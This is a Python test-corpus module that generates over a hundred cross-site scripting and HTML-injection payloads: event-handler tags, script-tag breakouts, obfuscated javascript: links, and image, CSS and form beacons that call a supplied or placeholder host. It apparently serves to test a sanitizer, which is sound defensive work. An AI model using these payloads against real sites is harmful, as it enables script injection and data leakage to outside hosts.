"""Text that tries to run, to restyle, to submit or to call home: a corpus made here, no files."""

from itertools import product

_RUN = "window.__x=1"
_HANDLERS = [
    "<img src=x onerror={run}>",
    "<svg onload={run}>",
    "<svg/onload={run}>",
    "<body onload={run}>",
    "<details open ontoggle={run}>x</details>",
    "<video><source onerror={run}></video>",
    "<audio src=x onerror={run}>",
    "<input autofocus onfocus={run}>",
    "<select autofocus onfocus={run}>",
    "<textarea autofocus onfocus={run}>",
    "<marquee onstart={run}>x</marquee>",
    "<div style='animation-name:pulse' onanimationstart={run}>x</div>",
    "<a href=# onmouseover={run} tabindex=1 onfocus={run} autofocus>x</a>",
    "<iframe onload={run}></iframe>",
    "<object data=x onerror={run}></object>",
    "<form><button formaction=javascript:{run}>x</button></form>",
]
_SCRIPTS = [
    "<script>{run}</script>",
    "<SCRIPT>{run}</SCRIPT>",
    "<scr<script>ipt>{run}</scr</script>ipt>",
    "<script src=data:text/javascript,{run}></script>",
    "<script src={beacon}/s.js></script>",
    "</script><script>{run}</script>",
    "</textarea><script>{run}</script>",
    "</title><script>{run}</script>",
    "</style><script>{run}</script>",
    "</template><script>{run}</script>",
    "--><script>{run}</script><!--",
    "]]><script>{run}</script>",
    "<!--<img src='--><script>{run}</script>'>",
    "<noscript><p title='</noscript><script>{run}</script>'>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--><script>{run}</script>'>",
    "<svg><style><img/src=x onerror={run}></style></svg>",
    "<svg><animate onbegin={run} attributeName=x dur=1s>",
    "<svg><a><animate attributeName=href values=javascript:{run} /><text x=20 y=20>x</text></a>",
    "<iframe srcdoc='<script>parent.{run}</script>'></iframe>",
    "<iframe src='javascript:parent.{run}'></iframe>",
    "<object data='javascript:{run}'></object>",
    "<embed src='javascript:{run}'>",
    "<base href='javascript:/'><a href='{run}'>x</a>",
    "<meta http-equiv=refresh content='0;url=javascript:{run}'>",
    '"><script>{run}</script>',
    "'><script>{run}</script>",
    "`-{run}-`",
    "${{{run}}}",
    "{{% load static %}}{{{{ 7|add:7 }}}}",
    "<x\x00y><script>{run}</script>",
    "<script\u2028>{run}</script>",
    "\u2028{run}\u2029",
]
_SCHEMES = [
    "javascript:{run}",
    "JaVaScRiPt:{run}",
    "java\tscript:{run}",
    "java&#10;script:{run}",
    "&#106;avascript:{run}",
    "&#x6A&#x61vascript:{run}",
    "javascript&colon;{run}",
    "\x01javascript:{run}",
    " javascript:{run}",
    "vbscript:{run}",
    "data:text/html,<script>{run}</script>",
    "data:text/html;base64,PHNjcmlwdD53aW5kb3cuX194PTE8L3NjcmlwdD4=",
    "view-source:javascript:{run}",
    "jar:javascript:{run}",
    "//evil.invalid/x",
    "\\\\evil.invalid\\x",
]
_LINKS = ["[x]({url})", "[x](<{url}>)", "<{url}>", "<a href='{url}'>x</a>", "[x]: {url}\n\n[x]"]
_BEACONS = [
    "![x]({beacon}/i.png)",
    "![x][r]\n\n[r]: {beacon}/r.png",
    "<img src={beacon}/h.png>",
    "<img srcset='{beacon}/h2.png 2x'>",
    "<picture><source srcset={beacon}/p.png><img></picture>",
    "<div style='background:url({beacon}/c.png)'>x</div>",
    "<style>@import '{beacon}/c.css'; body{{display:none}}</style>",
    "<style>@font-face{{font-family:x;src:url({beacon}/f)}} *{{font-family:x}}</style>",
    "<link rel=stylesheet href={beacon}/l.css>",
    "<link rel=prefetch href={beacon}/pre>",
    "<link rel=dns-prefetch href=//beacon.invalid>",
    "<link rel=preconnect href={beacon}>",
    "<svg><image href={beacon}/s.png /></svg>",
    "<svg><use href={beacon}/s.svg#x /></svg>",
    "<video poster={beacon}/v.png></video>",
    "<iframe src={beacon}/frame></iframe>",
    "<object data={beacon}/o></object>",
    "<form action={beacon}/form><input name=x autofocus></form>",
    "<body background={beacon}/b.png>",
    "<table background={beacon}/t.png><tr><td>x</table>",
    "<meta http-equiv=refresh content='0;url={beacon}/m'>",
    "<a ping={beacon}/ping href=#>x</a>",
    "<audio src={beacon}/a></audio>",
    '```html"onmouseover="{run}\n<script>{run}</script>\n```',
    "| <script>{run}</script> | ![x]({beacon}/cell) |\n|-|-|\n| <img src={beacon}/d> | x |",
]


def corpus(beacon: str) -> list[str]:
    """At least 120 different attacks; those that call home call `beacon`."""
    forms = [*_HANDLERS, *_SCRIPTS, *_BEACONS]
    plain = [form.format(run=_RUN, beacon=beacon) for form in forms]
    links = [link.format(url=scheme.format(run=_RUN)) for link, scheme in product(_LINKS, _SCHEMES)]
    return list(dict.fromkeys([*plain, *links]))


def storable(text: str) -> str:
    """The attack without what no way in lets through (NUL)."""
    return text.replace("\x00", "")
